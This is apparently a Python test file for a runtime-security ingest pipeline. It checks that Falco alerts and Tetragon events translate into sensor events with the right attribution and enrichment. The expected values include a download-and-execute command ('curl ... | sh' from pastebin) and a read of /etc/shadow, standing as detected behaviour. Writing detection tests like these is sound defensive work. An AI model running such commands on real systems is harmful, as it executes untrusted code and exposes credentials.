"""Falco alerts and Tetragon events become RawSensorEvents ingest can attribute and enrich."""

from __future__ import annotations

import json
import os
from pathlib import Path

from edges.intake import falco, tetragon
from edges.intake.sensorcommon import deployment_from_pod, parse_json_items, translate_batch
from runward.core.contracts import CapabilityDetail, ConnectDetail, ExecDetail, ExitDetail, FileOpenDetail
from services.ingest.domain import enrich_sensor

SENSORS = Path(__file__).resolve().parents[1] / "data" / "bom" / "sensors"


def load(name: str) -> list[dict]:  # type: ignore[type-arg]
    return parse_json_items((SENSORS / name).read_bytes())


def test_falco_alerts_translate_with_reasons_for_the_rest() -> None:
    batch = translate_batch(load("falco_alerts.jsonl"), falco.translate)
    assert [i for i, _ in batch.rejected] == [4, 5]
    assert "'ptrace' has no Runward sensor detail" in batch.rejected[0][1]
    assert "k8s_audit" in batch.rejected[1][1]
    shadow, shell, egress, ipv6 = batch.events
    assert isinstance(shadow.detail, FileOpenDetail) and shadow.detail.path == "/etc/shadow"
    assert shadow.detail.flags == os.O_RDONLY | os.O_CLOEXEC
    # Deployment recovered from the pod name: both suffixes are Kubernetes safe-encoded.
    assert shadow.attribution.deployment == "agents/support-bot" and shadow.attribution.container_id == "3ad7b26ded6d"
    assert shadow.ts.isoformat() == "2026-03-01T12:00:01.123456+00:00" and shadow.pid == 4242
    assert isinstance(shell.detail, ExecDetail) and shell.detail.binary == "/usr/bin/bash"
    assert shell.detail.argv == ["bash", "-c", "curl -s https://pastebin.com/raw/x | sh"]
    assert shell.detail.ppid == 4242 and shell.detail.parent_comm == "python"
    assert isinstance(egress.detail, ConnectDetail)
    assert (egress.detail.address, egress.detail.port, egress.detail.dns_name) == ("104.20.67.143", 443, "pastebin.com")
    assert isinstance(ipv6.detail, ConnectDetail) and ipv6.detail.family == "ipv6" and ipv6.detail.port == 8443
    assert ipv6.attribution.deployment is None  # a Job's pod is not guessed into a Deployment


def test_falco_ids_are_stable_for_redelivered_alerts() -> None:
    alert = load("falco_alerts.jsonl")[0]
    assert falco.translate(alert).event_id == falco.translate(json.loads(json.dumps(alert))).event_id


def test_tetragon_events_translate() -> None:
    batch = translate_batch(load("tetragon_events.jsonl"), tetragon.translate)
    assert [i for i, _ in batch.rejected] == [6] and "process_lsm" in batch.rejected[0][1]
    exec_, model, connect, cap, exit_, job = batch.events
    assert isinstance(exec_.detail, ExecDetail)
    assert exec_.detail.argv == ["/usr/local/bin/python3.11", "agent.py", "--config", "/etc/agent/config.yaml"]
    assert exec_.attribution.deployment == "agents/support-bot"
    assert exec_.attribution.container_id == "3ad7b26ded6d5d0f4a1f4c1d6e1e0c8b9b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e"
    assert isinstance(model.detail, FileOpenDetail) and model.detail.path.endswith("model.safetensors")
    assert isinstance(connect.detail, ConnectDetail) and connect.detail.address == "162.159.140.245"
    assert isinstance(cap.detail, CapabilityDetail) and cap.detail.capability == "CAP_SYS_ADMIN"
    assert isinstance(exit_.detail, ExitDetail) and exit_.detail.exit_code == 1
    assert job.attribution.deployment is None and job.attribution.namespace == "jobs"


def test_translated_events_enrich_like_the_eBPF_sensor_s() -> None:
    from runward.core.contracts import Egress, Exec, SourceRef

    source = SourceRef(topic="runward.raw.sensor", partition=0, offset=0)
    events = translate_batch(load("tetragon_events.jsonl"), tetragon.translate).events
    enriched = [e for raw in events[:3] for e in enrich_sensor({}, raw, source)]  # type: ignore[arg-type]
    assert enriched[0].behaviour == Exec(binary="/usr/local/bin/python3.11")
    assert enriched[2].behaviour == Egress(host="162.159.140.245", port=443, protocol="tcp")
    assert [e.behaviour.key for e in (enriched[0], enriched[2]) if e.behaviour] == [
        "exec:/usr/local/bin/python3.11",
        "egress:162.159.140.245:443/tcp",
    ]


def test_pod_name_heuristic() -> None:
    assert deployment_from_pod("support-bot-7d4b9c5f6-x2x7q") == "support-bot"
    assert deployment_from_pod("web-0") is None
    assert deployment_from_pod("fluentd-x7k2p") is None
